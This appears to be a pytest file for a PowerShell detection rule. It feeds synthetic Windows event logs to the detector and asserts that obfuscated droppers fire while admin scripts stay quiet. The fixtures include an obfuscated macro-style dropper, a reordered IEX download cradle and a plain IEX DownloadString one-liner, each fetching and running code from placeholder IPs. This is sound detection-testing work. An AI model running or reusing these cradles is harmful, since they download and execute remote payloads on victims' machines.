"""Obfuscated or downloading PowerShell (both engines): hand-written droppers fire, admin scripts stay quiet."""

from __future__ import annotations

import base64
import hashlib
import json
from pathlib import Path

import pytest
from conftest import engine_params, ingested_lake

from winnow.detections import get_detector
from winnow.engine import Window, connect

PS_OP = {"SourceName": "Microsoft-Windows-PowerShell", "Channel": "Microsoft-Windows-PowerShell/Operational",
         "UserID": "S-1-5-21-1-1107", "ExecutionProcessID": 4420}
CLASSIC = {"SourceName": "PowerShell", "Channel": "Windows PowerShell"}
SYSMON = {"SourceName": "Microsoft-Windows-Sysmon", "Channel": "Microsoft-Windows-Sysmon/Operational"}

#: a dropper in the style of a macro's PowerShell: split strings, ticks, -f, [char], random case, a cradle
DROPPER = (
    "$Qz8k=('Hx'+'7')+('p2'+'w');&('Ne'+'w-'+'It'+'em') $ENv:tEmP\\oFfIcE\\cAcHe\\ -ItemType DiReCtOrY;"
    "[Net.ServicePointManager]::\"Se`cUrI`TyPrO`ToCoL\" = ('Tl'+'s1'+'2');$Wr4=$eNv:TeMp+(('{0}of'+'fi'+'ce{0}'"
    "+'cache{0}') -F [ChAr]92)+('up'+'d'+'.e'+'xe');$Cl9=&('N'+'ew-Ob'+'je'+'ct') nEt.wEbClIeNt;$Ur1=('ht'+'tp'+"
    "':/'+'/198.51'+'.100.23'+'/g'+'ate/'+'x@ht'+'tp://203.0.'+'113.8/'+'up/').(\"Sp`LiT\")([ChAr]64);foreach($u "
    "in $Ur1){try{$Cl9.\"Do`wNl`OaDf`IlE\"($u,$Wr4);If((.('Ge'+'t-It'+'em') $Wr4).\"Le`NgTh\" -ge 30000){.('Inv'+"
    "'oke-'+'Item')($Wr4);break}}catch{}}"
)
#: Invoke-Obfuscation-like reordering and a $ShellId invocation; 4104 splits it in two parts mid-word
REORDERED = (
    "$wc = New-Object Net.WebClient; $u = (\"{2}{0}{1}\" -f '2.0.2.44/s.ps1','p://19','htt');"
    " .( $ShellId[1]+$ShellId[13]+'x') ($wc.(\"{3}{1}{0}{2}\" -f 'tr','S','ing','Download').Invoke($u))"
)
ADMIN_LINES = ("powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
               "powershell.exe -Command \"Get-Service | Where-Object {$_.Status -eq 'Running'}\"")
CRADLE = "-nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/r.ps1')\""
ADMIN_DOWNLOAD = ("powershell.exe -NoProfile -Command \"Invoke-WebRequest -Uri https://dl.example.com/agent.msi "
                  "-OutFile $env:TEMP\\agent.msi; Start-Process msiexec.exe -ArgumentList '/i', "
                  "\\\"$env:TEMP\\agent.msi\\\", '/qn'\"")


def _encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _t(minute: int) -> str:
    return f"2026-11-02T10:{minute:02d}:00.000Z"


def _attack_events() -> list[dict]:
    launcher = f"powershell -nop -w hidden -e {_encoded(DROPPER)}"
    details = (f"\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=9\r\n\r\n\tUserId=CORP\\bob\r\n"
               f"\tHostName=ConsoleHost\r\n\tHostApplication={launcher}\r\n\tEngineVersion=5.1\r\n\tCommandLine={DROPPER}")
    cut = REORDERED.index("WebClient") + 3
    return [
        {**CLASSIC, "EventID": 800, "Hostname": "WS1", "EventRecordID": 51, "TimeCreated": _t(1), "EventData": {
            "Data": {"#text": [DROPPER, details, "CommandInvocation(New-Item): \"New-Item\""]}}},
        {**CLASSIC, "EventID": 400, "Hostname": "WS1", "EventRecordID": 50, "EventTime": "2026-11-02 10:00:30",
         "Message": "Engine state is changed from None to Available. \r\n\r\nDetails: \r\n\tNewEngineState=Available"
                    f"\r\n\tHostName=ConsoleHost\r\n\tHostApplication={launcher}\r\n\tEngineVersion=5.1"},
        *({**PS_OP, "EventID": 4104, "Hostname": "WS2", "EventRecordID": 70 + n, "TimeCreated": _t(2 + n),
           "MessageNumber": str(n), "MessageTotal": "2", "ScriptBlockId": "9a1c-block", "Path": "",
           "ScriptBlockText": part} for n, part in ((1, REORDERED[:cut]), (2, REORDERED[cut:]))),
        *({**SYSMON, "EventID": 1, "Hostname": "WS3", "EventRecordID": 89 + i, "TimeCreated": _t(5),
           "User": "CORP\\carol", "ProcessId": str(5120 + i), "Image": image, "CommandLine": f"{prefix}{CRADLE}"}
          for i, (image, prefix) in enumerate([(r"C:\Windows\System32\cmd.exe", "cmd.exe /c powershell  "),
                                               (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                                                "powershell ")])),
        {**SYSMON, "EventID": 1, "Hostname": "WS3", "EventRecordID": 91, "TimeCreated": _t(6), "ProcessId": "5188",
         "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "User": "CORP\\admin",
         "CommandLine": ADMIN_DOWNLOAD},
    ]


def _benign_scripts() -> list[str]:
    """An inventory pipeline, a module's body and a signed installer: long, formatted, joined, never obfuscated."""
    inventory = ("Get-ChildItem -Path 'D:\\Shares' -Recurse -File -ErrorAction SilentlyContinue |\n"
                 "    Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-365) } |\n"
                 "    Sort-Object Length -Descending | Select-Object -First 50 FullName, Length, LastWriteTime |\n"
                 "    ForEach-Object { \"{0,-80} {1,12:N0} {2:yyyy-MM-dd}\" -f $_.FullName, $_.Length,\n"
                 "        $_.LastWriteTime } |\n"
                 "    Out-File -FilePath (Join-Path $env:TEMP 'stale.txt') -Encoding utf8\n"
                 "Write-Host (\"Report: {0}`n\" -f (Join-Path $env:TEMP 'stale.txt'))\n"
                 "Write-Host \"Done`r`nChecked`t$((Get-PSDrive -PSProvider FileSystem).Count) drives\"\n"
                 "Write-Host ([char]0x2022 + ' ' + ((Get-PSDrive -PSProvider FileSystem).Name -join ', '))")
    module = ("#Requires -Version 5.1\nSet-StrictMode -Version Latest\n"
              "Import-Module ActiveDirectory -ErrorAction Stop\nImport-Module \"$PSScriptRoot\\Helpers.psm1\"\n"
              "function Get-StaleComputer {\n    [CmdletBinding()]\n    param([int]$Days = 90, [string]$SearchBase)\n"
              "    $cutoff = (Get-Date).AddDays(-$Days).ToFileTime()\n"
              "    if ([string]::IsNullOrEmpty($SearchBase)) { $SearchBase = (Get-ADDomain).DistinguishedName }\n"
              "    Get-ADComputer -Filter \"lastLogonTimestamp -lt $cutoff\" -SearchBase $SearchBase -Properties "
              "lastLogonTimestamp, IPv4Address, OperatingSystem |\n"
              "        Select-Object Name, DNSHostName, OperatingSystem, @{n='LastLogon'; e={[DateTime]::FromFileTime("
              "$_.lastLogonTimestamp).ToString('u')}}\n}\n"
              "$seen = New-Object 'System.Collections.Generic.HashSet`1[string]'\n"
              "$health = Invoke-RestMethod -Uri 'https://status.contoso.local/api/v1/health' -UseDefaultCredentials\n"
              "Export-ModuleMember -Function Get-StaleComputer\n")
    lines = ["<#", ".SYNOPSIS", "    Installs the Contoso endpoint agent and its service.", "#>",
             "param([string]$Source = \"$PSScriptRoot\\payload\",",
             "      [string]$Target = \"$env:ProgramFiles\\Contoso\\Agent\")",
             "$ErrorActionPreference = 'Stop'", "$log = Join-Path $env:ProgramData 'Contoso\\install.log'",
             "function Write-Log([string]$Message) {",
             "    Add-Content -Path $log -Value ('{0:s} {1}' -f (Get-Date), $Message)", "}"]
    for i, step in enumerate(["bin", "conf", "plugins", "licenses", "docs", "tools", "certs", "data"]):
        lines += [f"Write-Progress -Activity 'Installing' -Status '{step}' -PercentComplete {i * 12}",
                  f"New-Item -ItemType Directory -Path (Join-Path $Target '{step}') -Force | Out-Null",
                  f"Copy-Item -Path (Join-Path $Source '{step}\\*') -Destination (Join-Path $Target '{step}') -Recurse",
                  f"$n = (Get-ChildItem (Join-Path $Target '{step}')).Count",
                  f"Write-Log (\"Copied {{0}} files to {{1}}\" -f $n, '{step}')"]
    lines += ["New-Service -Name ContosoAgent -BinaryPathName \"`\"$Target\\bin\\agent.exe`\" --service\" "
              "-StartupType Automatic",
              "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Contoso\\Agent' -Name Version -Value '4.2.1'",
              "Start-Service ContosoAgent", "# SIG # Begin signature block"]
    blob = base64.b64encode(b"".join(hashlib.sha512(bytes([i])).digest() for i in range(60))).decode()
    lines += [f"# {blob[i:i + 64]}" for i in range(0, len(blob), 64)] + ["# SIG # End signature block"]
    return [inventory, module, "\r\n".join(lines)]


def _write(folder: Path, events: list[dict]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "powershell.json").write_text("".join(json.dumps(e) + "\n" for e in events))


@pytest.fixture(scope="module")
def lake(tmp_path_factory) -> Path:
    benign = [{**PS_OP, "EventID": 4104, "Hostname": "SRV1", "EventRecordID": 200 + i, "TimeCreated": _t(20 + i),
               "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockId": f"benign-{i}", "Path": f"C:\\S\\{i}.ps1",
               "ScriptBlockText": text} for i, text in enumerate(_benign_scripts())]
    benign += [{**SYSMON, "EventID": 1, "Hostname": "SRV1", "EventRecordID": 300 + i, "TimeCreated": _t(30 + i),
                "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "CommandLine": line}
               for i, line in enumerate(ADMIN_LINES)]
    return ingested_lake(tmp_path_factory, "powershell", lambda d: _write(d / "logs", _attack_events() + benign))


@pytest.fixture(scope="module", params=engine_params())
def found(request, lake) -> list:
    with connect(request.param, lake) as engine:
        return get_detector("powershell").find(engine, Window())


def _by_source(found: list, source: str) -> list:
    return [f for f in found if source in f.evidence["sources"]]


def test_dropper_in_an_800_fires_with_its_features(found) -> None:
    (pipeline,) = [f for f in _by_source(found, "win.event 800") if f.evidence["excerpt"].startswith("$Qz8k")]
    assert pipeline.severity == "high" and pipeline.host == "WS1" and pipeline.user == "CORP\\bob"
    features = ("concat", "ticks", "mixed_case", "invoke", "download", "characters")
    assert all(pipeline.components[f] >= 0.5 for f in features) and pipeline.evidence["features"] == list(features)
    assert pipeline.evidence["counts"]["concat"] >= 20 and pipeline.evidence["counts"]["ticks"] >= 8
    assert pipeline.evidence["downloads"] == ["Net.WebClient"] and pipeline.evidence["record_ids"] == [51]
    why = pipeline.why
    assert why.startswith("PowerShell on WS1 ran text with ") and why.endswith(": obfuscated download cradle")
    assert "string-concatenation splits" in why and "backtick escapes" in why and "Net.WebClient download" in why


def test_encoded_launcher_of_400_and_800_is_one_finding(found) -> None:
    (launcher,) = [f for f in found if f.evidence["encoded_command"]]
    assert launcher.evidence["sources"] == ["win.event 400", "win.event 800"] and launcher.evidence["events"] == 2
    assert launcher.components["base64"] == 1.0 and launcher.evidence["decoded_excerpt"].startswith("$Qz8k")
    assert launcher.severity == "high" and "an encoded command" in launcher.why


def test_split_4104_block_is_joined(found) -> None:
    (block,) = _by_source(found, "proc.script 4104")
    assert block.host == "WS2" and block.evidence["record_ids"] == [71, 72] and block.evidence["events"] == 2
    assert block.evidence["script_block_ids"] == ["9a1c-block"] and block.evidence["downloads"] == ["Net.WebClient"]
    assert block.components["format"] == 1.0 and block.evidence["counts"]["obfuscated_invocations"] >= 1
    assert block.severity == "high" and "2 -f format reorderings" in block.why
    assert "an obfuscated Invoke-Expression" in block.why


def test_command_line_cradles(found) -> None:
    by = {f.evidence["record_ids"][0]: f for f in _by_source(found, "proc.exec 1")}
    assert sorted(by) == [89, 91]  # cmd.exe /c powershell ... and the powershell.exe it started: one text
    assert by[89].evidence["record_ids"] == [89, 90] and by[89].evidence["pids"] == [5120, 5121]
    assert by[89].severity == "medium" and by[89].user == "CORP\\carol"
    assert by[89].why.endswith("Invoke-Expression and a Net.WebClient download it runs: download cradle")
    assert by[91].severity == "low" and by[91].score <= 0.59  # download and run, nothing else: one feature


def test_admin_scripts_do_not_fire(found, lake) -> None:
    assert not [f for f in found if f.host == "SRV1"]
    assert {f.host for f in found} == {"WS1", "WS2", "WS3"}
    with connect("duckdb", lake) as engine:  # they pass the pre-filter ([char], -join, {1}, a REST call): scored low
        scored = [f for f in get_detector("powershell", min_score=0.0).find(engine, Window()) if f.host == "SRV1"]
    assert len(scored) == 3 and all(f.score < 0.3 for f in scored), [(f.score, f.why) for f in scored]


def test_features_of_single_texts() -> None:
    det = get_detector("powershell")
    for text in _benign_scripts():
        sub, evidence = det.features(text)
        assert det.score(sub) < 0.4, (text[:60], sub)
        assert evidence["counts"]["longest_base64"] == 0  # the installer's signature block is dropped first
        assert evidence["counts"]["ticks"] == evidence["counts"]["mixed_case"] == 0  # `r`n`t and HashSet`1 are no ticks
    sub, _ = det.features(" .($env:comspec[4,15,25]-join'')('w'+'hoami')")
    assert sub["invoke"] == 1.0 and det.score(sub) < 0.6  # one obfuscation trick and a split: below two full features
    assert det.score({**sub, "concat": 1.0}) >= 0.6
    alone = {**dict.fromkeys(sub, 0.0), "ticks": 1.0, "characters": 1.0}  # one feature and its special characters
    assert det.score(alone) == 0.59 and det.score({**alone, "mixed_case": 0.5}) > 0.7


def test_real_emotet_and_empire(shared_data, tmp_path_factory) -> None:
    """Emotet's 800/4104 records (sbousseaden samples) and an Empire launcher (Mordor) are high."""
    emotet = shared_data / "evtx-attack-samples" / "Other" / "emotet"
    empire = shared_data / "mordor" / "atomic" / "empire_shell_samr_EnumDomainUsers_host.zip"
    if not emotet.is_dir() or not empire.is_file():
        pytest.skip(f"the emotet samples or the Mordor Empire recording are not under {shared_data}")
    from winnow.ingest import ingest

    lake = tmp_path_factory.mktemp("ps-real") / "lake"
    ingest([*sorted(emotet.glob("exec_emotet_ps_*.evtx")), empire], lake)
    with connect("duckdb", lake) as engine:
        found = get_detector("powershell").find(engine, Window())
    (dropper,) = [f for f in found if f.host == "DESKTOP-RIPCLIP"]
    assert dropper.severity == "high" and dropper.evidence["sources"] == ["proc.script 4104", "win.event 800"]
    assert dropper.evidence["events"] == 5 and "obfuscated download cradle" in dropper.why
    launchers = [f for f in found if f.evidence["encoded_command"]]
    assert launchers and all(f.severity == "high" for f in launchers)
    assert all(f.severity in ("medium", "high") for f in found if f.host != "DESKTOP-RIPCLIP")
